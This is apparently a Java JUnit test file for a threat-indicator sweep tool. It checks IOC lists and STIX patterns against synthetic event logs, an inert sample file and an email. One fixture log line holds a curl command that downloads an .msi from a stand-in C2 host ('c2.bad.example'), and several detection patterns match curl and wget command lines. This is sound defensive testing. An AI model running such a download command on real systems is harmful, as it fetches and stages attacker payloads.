package org.atalaya.sweep;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.BufferedInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import org.atalaya.model.Finding;
import org.atalaya.model.Level;
import org.atalaya.model.Notice;
import org.atalaya.warning.FindingJson;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Indicators over events, artifacts and mails of whole sweeps. */
class IndicatorSweepTest {
    @TempDir
    Path folder;

    private Path evidence = Path.of("");

    @BeforeEach
    void evidence() throws IOException {
        evidence = Files.createDirectories(folder.resolve("case"));
        Files.writeString(evidence.resolve("events.jsonl"), """
                {"@timestamp":"2024-02-01T10:00:00Z","host":{"name":"PC-1"},"process":{"command_line":"curl http://c2.bad.example:8080/get -o %TEMP%\\\\Recibo (1).msi"},"event":{"kind":"event"}}
                {"@timestamp":"2024-02-01T10:00:05Z","host":{"name":"PC-1"},"destination":{"ip":"203.0.113.77"},"file":{"version":"203.0.113.78"},"event":{"kind":"event"}}
                {"@timestamp":"2024-02-01T10:00:06Z","host":{"name":"PC-1"},"dns":{"question":{"name":"ip-api.com"}},"event":{"kind":"event"}}
                {"@timestamp":"2024-02-01T10:00:07Z","host":{"name":"PC-2"},"dns":{"question":{"name":"good.example"}},"event":{"kind":"event"}}
                """);
        Files.writeString(evidence.resolve("sample.bin"), "TEST sample, inert\n");
        Files.writeString(evidence.resolve("mail.eml"), """
                Received: from relay.bad.example ([203.0.113.9]) by mx.example
                From: TEST <test@sender.example>
                To: ana@corp.example
                Subject: TEST
                Date: Thu, 1 Feb 2024 09:00:00 +0000
                Content-Type: text/plain

                TEST http://link.bad.example/a
                """);
    }

    private static String sha256(Path file) throws Exception {
        return HexFormat.of()
                .formatHex(java.security.MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(file)));
    }

    private SweepResult sweep(String out, int threads, Path... indicators) throws IOException {
        RuleFiles ours = Sweeps.ours();
        RuleFiles rules = new RuleFiles(
                ours.knowledge(),
                ours.sigma(),
                ours.yara(),
                List.of(indicators),
                Optional.empty(),
                Optional.empty(),
                Optional.empty());
        SweepRequest request = Sweeps.of(evidence, folder.resolve(out), rules, threads, MailRequest.NONE);
        return new Sweep(request, Progress.NONE).run();
    }

    private List<Finding> found(String out) throws IOException {
        List<Finding> found = new ArrayList<>();
        try (InputStream in =
                new BufferedInputStream(Files.newInputStream(folder.resolve(out).resolve("findings.jsonl")))) {
            FindingJson.read(in, finding -> {
                if (finding.rule().kind().equals("indicator")) {
                    found.add(finding);
                }
            });
        }
        return found;
    }

    private static List<String> values(Finding finding) {
        return finding.matches().stream()
                .map(match -> match.value().substring(match.start(), match.end()))
                .toList();
    }

    @Test
    void indicatorsAreFoundInEventsArtifactsAndMails() throws Exception {
        Path list = Files.writeString(
                folder.resolve("list.txt"),
                "bad[.]example\n203.0.113.0/28\n203.0.113.77\n203.0.113.78\n" + sha256(evidence.resolve("sample.bin"))
                        + "\nhttp://c2.bad.example:8080/get\n");
        Path names = Files.writeString(folder.resolve("names.csv"), "kind,value\nfile-name,recibo (1).msi\n");
        sweep("out", 2, list, names);
        List<Finding> found = found("out");
        assertThat(found)
                .extracting(finding -> Path.of(finding.place().source()).getFileName() + " " + values(finding))
                .containsExactlyInAnyOrder(
                        "events.jsonl [c2.bad.example]",
                        "events.jsonl [c2.bad.example:8080/get]",
                        "events.jsonl [Recibo (1).msi]",
                        "events.jsonl [203.0.113.77]",
                        "sample.bin [" + sha256(evidence.resolve("sample.bin")) + "]",
                        "mail.eml [relay.bad.example]",
                        "mail.eml [203.0.113.9]",
                        "mail.eml [link.bad.example]");
        assertThat(found).allSatisfy(finding -> {
            assertThat(finding.why()).contains("confidence 50");
            assertThat(finding.rule().title("es")).startsWith("Indicador: ");
        });
    }

    @Test
    void whatIsOnAWarningListIsANoteAndNoFinding() throws IOException {
        Path list = Files.writeString(folder.resolve("list.txt"), "ip-api.com\n");
        SweepResult result = sweep("out", 1, list);
        assertThat(found("out")).isEmpty();
        assertThat(result.summary().notices())
                .filteredOn(notice -> notice.kind() == Notice.Kind.NOTE)
                .extracting(Notice::detail)
                .containsExactly("on a warning list: ip-api.com of " + list
                        + " is one of the services that tell where an address is; 1 hit is no finding");
    }

    @Test
    void validityAndAgeChangeTheLevelAndNothingIsDropped() throws IOException {
        Path bundle = Files.writeString(folder.resolve("b.json"), """
                {"type":"bundle","id":"bundle--1","objects":[
                {"type":"indicator","id":"indicator--00000000-0000-4000-8000-000000000001","name":"Control","confidence":90,"pattern_type":"stix",
                 "pattern":"[domain-name:value = 'bad.example']","valid_from":"2024-01-31T00:00:00Z"},
                {"type":"indicator","id":"indicator--00000000-0000-4000-8000-000000000002","confidence":90,"pattern_type":"stix",
                 "pattern":"[ipv4-addr:value = '203.0.113.77']","valid_from":"2023-11-01T00:00:00Z","valid_until":"2024-01-01T00:00:00Z"}]}
                """);
        sweep("out", 1, bundle);
        assertThat(found("out"))
                .filteredOn(finding -> finding.place().source().endsWith("jsonl"))
                .extracting(
                        finding -> finding.rule().title() + " " + finding.rule().level())
                .containsExactly("Indicator: Control " + Level.HIGH, "Indicator: address on b.json " + Level.LOW);
        assertThat(found("out").get(1).why()).contains("31 days after its validity");
    }

    @Test
    void resultsAreTheSameForAnyNumberOfThreads() throws IOException {
        Path list = Files.writeString(folder.resolve("list.txt"), "bad.example\n203.0.113.0/24\nip-api.com\n");
        sweep("one", 1, list);
        sweep("four", 4, list);
        for (String name : List.of("findings.jsonl", "timeline.csv", "report.html")) {
            assertThat(folder.resolve("four").resolve(name))
                    .hasSameBinaryContentAs(folder.resolve("one").resolve(name));
        }
    }

    @Test
    void aBrokenFileThatWasNamedEndsTheSweepBeforeItBegins() throws IOException {
        Path broken = Files.writeString(folder.resolve("b.json"), "{\"objects\":[7]}");
        assertThatThrownBy(() -> sweep("out", 1, broken))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("b.json: objects[0]")
                .hasMessageContaining("expected a STIX object");
        assertThat(folder.resolve("out/findings.jsonl")).doesNotExist();
    }

    private Path pattern(String name, String pattern) throws IOException {
        return Files.writeString(
                folder.resolve(name),
                "{\"type\":\"bundle\",\"id\":\"bundle--1\",\"objects\":[{\"type\":\"indicator\",\"name\":\"P\","
                        + "\"id\":\"indicator--00000000-0000-4000-8000-000000000009\",\"pattern_type\":\"stix\","
                        + "\"valid_from\":\"2024-01-01T00:00:00Z\",\"pattern\":\"" + pattern + "\"}]}");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "[process:command_line LIKE '%curl%' AND process:command_line MATCHES 'bad.example'] | events.jsonl",
                "[process:command_line LIKE '%wget%'] |",
                "[file:name = 'sample.bin' AND file:size > 10] | sample.bin",
                "[email-message:from_ref.value = 'test@sender.example' AND email-message:subject = 'TEST'] | mail.eml",
                "[network-traffic:dst_ref.value ISSUBSET '203.0.113.0/24'] | events.jsonl",
                "[process:command_line LIKE '%curl%'] FOLLOWEDBY [ipv4-addr:value = '203.0.113.77'] WITHIN 10 SECONDS | events.jsonl",
                "([process:command_line LIKE '%curl%'] FOLLOWEDBY [ipv4-addr:value = '203.0.113.77']) WITHIN 2 SECONDS |",
                "[ipv4-addr:value = '203.0.113.77'] FOLLOWEDBY [process:command_line LIKE '%curl%'] |",
                "[email-message:subject = 'TEST'] FOLLOWEDBY [process:command_line LIKE '%curl%'] | events.jsonl",
                "[domain-name:value LIKE '%.com'] AND [domain-name:value = 'good.example'] | events.jsonl",
                "[domain-name:value LIKE '%example'] REPEATS 3 TIMES |"
            })
    void wholePatternsAreAskedOfTheEvidence(String pattern, @Nullable String where) throws IOException {
        sweep("out", 2, pattern("p.json", pattern));
        assertThat(found("out"))
                .extracting(finding ->
                        Path.of(finding.place().source()).getFileName().toString())
                .isEqualTo(where == null ? List.of() : List.of(where));
    }

    @Test
    void patternsJoinWhatHappenedOnOneHostOnly() throws IOException {
        evidence = Files.createDirectories(folder.resolve("hosts"));
        for (String host : List.of("PC-1", "PC-2")) {
            Files.writeString(
                    evidence.resolve(host + ".jsonl"),
                    "{\"Event\":{\"System\":{\"EventID\":22,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\""
                            + host + "\",\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2024-02-01T10:00:0"
                            + (host.endsWith("1") ? 1 : 2)
                            + "Z\"}}},\"EventData\":{\"QueryName\":\"" + host.toLowerCase(java.util.Locale.ROOT)
                            + ".example\"}}}\n");
        }
        sweep(
                "apart",
                1,
                pattern(
                        "a.json",
                        "[domain-name:value = 'pc-1.example'] FOLLOWEDBY [domain-name:value = 'pc-2.example']"));
        assertThat(found("apart")).isEmpty();
        sweep("one", 1, pattern("b.json", "[domain-name:value = 'pc-1.example'] WITHIN 1 SECONDS"));
        assertThat(found("one")).singleElement().satisfies(finding -> {
            assertThat(finding.host()).isEqualTo("PC-1");
            assertThat(finding.related()).hasSize(1);
        });
    }
}
